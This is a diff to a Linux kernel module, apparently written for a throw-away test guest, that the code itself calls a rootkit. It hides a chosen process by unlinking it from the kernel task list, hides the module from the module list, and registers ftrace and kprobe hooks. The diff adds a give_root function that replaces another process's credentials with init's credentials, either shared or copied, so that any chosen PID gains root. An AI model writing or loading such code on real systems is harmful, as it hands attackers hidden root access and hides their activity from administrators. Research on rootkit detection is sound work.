@@ -21,13 +21,19 @@
  *   ft=1           register an ftrace callback filtered to
  *                  cmdline_proc_show (does nothing; the __x64_sys_*
  *                  wrappers are not traceable on these kernels);
- *   kp=1           register a kprobe on version_proc_show (does nothing).
+ *   kp=1           register a kprobe on version_proc_show (does nothing);
+ *   cred_share=N   give process N init's own credentials (init_cred,
+ *                  shared: the pointer, not a copy);
+ *   cred_copy=N    give process N a fresh copy of init's credentials, as
+ *                  commit_creds(prepare_kernel_cred()) does for the
+ *                  calling process.
  *
  * Busybox's insmod retries with init_module() when finit_module() fails,
  * so a failing init runs twice; every step must succeed.
  *
  * Never load it outside a throw-away guest: it cannot be unloaded.
  */
+#include <linux/cred.h>
 #include <linux/ftrace.h>
 #include <linux/kernel.h>
 #include <linux/kprobes.h>
@@ -63,6 +69,10 @@ static bool ft;
 module_param(ft, bool, 0);
 static bool kp;
 module_param(kp, bool, 0);
+static int cred_share;
+module_param(cred_share, int, 0);
+static int cred_copy;
+module_param(cred_copy, int, 0);
 
 static int rk_pre(struct kprobe *p, struct pt_regs *regs)
 {
@@ -152,20 +162,51 @@ static int hook_syscall(void)
 	return 0;
 }
 
-static int hide_task(void)
+/* The task of process @pid, with a reference, or NULL. */
+static struct task_struct *get_task(int pid)
 {
 	struct task_struct *t;
 
 	rcu_read_lock();
-	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
+	t = pid_task(find_vpid(pid), PIDTYPE_PID);
 	if (t)
 		get_task_struct(t);
 	rcu_read_unlock();
+	return t;
+}
+
+static int hide_task(void)
+{
+	struct task_struct *t = get_task(hide_pid);
+
 	if (!t)
 		return -ESRCH;
 	write_lock_irq((rwlock_t *)tl);
 	list_del_init(&t->tasks);
 	write_unlock_irq((rwlock_t *)tl);
+	put_task_struct(t);
+	return 0;
+}
+
+/* Replace another process's credentials, both the objective (real_cred)
+ * and the subjective (cred) pointer. The old ones are leaked: a rootkit
+ * does not care. */
+static int give_root(int pid, bool share)
+{
+	struct task_struct *t = get_task(pid);
+	const struct cred *new;
+
+	if (!t)
+		return -ESRCH;
+	new = share ? get_cred(init_task.real_cred)
+		    : prepare_kernel_cred(&init_task);
+	if (!new) {
+		put_task_struct(t);
+		return -ENOMEM;
+	}
+	get_cred(new);		/* one reference for each pointer */
+	rcu_assign_pointer(t->real_cred, new);
+	rcu_assign_pointer(t->cred, new);
 	put_task_struct(t);
 	return 0;
 }
@@ -185,6 +226,10 @@ static int __init rk_init(void)
 	if (ft && (err = hook_ftrace()))
 		return err;
 	if (kp && (err = register_kprobe(&rk_kprobe)))
+		return err;
+	if (cred_share > 0 && (err = give_root(cred_share, true)))
+		return err;
+	if (cred_copy > 0 && (err = give_root(cred_copy, false)))
 		return err;
 	if (hide)
 		list_del_init(&THIS_MODULE->list);
